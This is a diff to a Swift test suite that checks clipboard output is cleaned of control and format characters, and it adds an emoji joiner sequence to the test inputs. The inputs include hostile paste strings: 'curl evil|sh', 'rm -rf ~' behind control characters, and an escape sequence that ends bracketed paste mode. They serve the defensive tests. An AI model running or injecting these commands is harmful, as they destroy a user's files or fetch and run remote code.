@@ -11,7 +11,7 @@ struct HostileClipboardTests {
     let listed =
       HostileText.controls.map { "x\($0)rm -rf ~" } + HostileText.attacks + [
         "harmless\ncurl evil|sh\n", "x\u{1B}[201~\nrm -rf ~\n", "harmless\nGoodbye.\nCommand: ", "safe name",
-        "caf\u{E9} \u{4E2D}",
+        "caf\u{E9} \u{4E2D}", "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} \u{2764}\u{FE0F}",
         "^[", "<U+001B>",
       ]
     return listed + (0..<listed.count).map { _ in "g" + grammar.name() }
@@ -23,10 +23,9 @@ struct HostileClipboardTests {
       + "\"last_four_digits\":\(value),\"creator_id\":\(value),\"restricted\":true,\"permissions\":[\"calls.view\",\(value)]}"
   }
 
-  /// Scalars of the categories Cc and Cf, and what breaks lines, but for pictures' joiners and our own line breaks.
-  private static func violations(_ text: String, allowing allowed: Set<Unicode.Scalar> = []) -> [String] {
+  /// Scalars of the categories Cc and Cf, and what breaks lines.
+  private static func violations(_ text: String) -> [String] {
     text.unicodeScalars.filter { scalar in
-      guard !allowed.contains(scalar), scalar != "\u{200D}" else { return false }
       switch scalar.properties.generalCategory {
       case .control, .format, .lineSeparator, .paragraphSeparator: return true
       default: return false
@@ -69,7 +68,7 @@ struct HostileClipboardTests {
         if isSafe { #expect(text == original) }
       }
       let row = try copied("row")
-      #expect(Self.violations(row, allowing: ["\n"]).isEmpty, "seed \(seed)")
+      #expect(Self.violations(row).isEmpty, "seed \(seed)")
       let json = try copied("json")
       #expect(Self.violations(json).isEmpty, "seed \(seed): \(json)")
       let key = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
